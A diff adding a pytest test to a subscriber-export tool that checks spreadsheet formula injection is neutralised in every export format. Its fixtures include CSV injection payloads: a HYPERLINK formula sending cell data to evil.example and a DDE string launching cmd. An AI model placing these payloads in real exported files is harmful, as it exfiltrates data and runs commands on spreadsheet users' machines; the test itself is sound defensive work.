@@ -215,3 +215,20 @@ def test_every_export_shape_imports_back_the_same_readers(
         )
     assert report.skipped == []
     assert readers(sessions) == before
+
+
+@pytest.mark.parametrize("shape", FORMATS)
+def test_an_export_never_hands_a_spreadsheet_a_formula(
+    sessions: sessionmaker[Session], shape: str
+) -> None:
+    load(sessions, "mailchimp_subscribed.csv")
+    hostile = ['=HYPERLINK("https://evil.example/?x="&A1)', "+1+cmd|' /C calc'!A0", "@SUM(A1)"]
+    with sessions() as session, session.begin():
+        subscribers = session.scalars(select(Subscriber).order_by(Subscriber.id)).all()
+        for subscriber, name in zip(subscribers, hostile, strict=False):
+            subscriber.name = name
+    with sessions() as session:
+        _, rows = export_list(session, "morning", shape)
+    cells = [value for row in rows for value in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
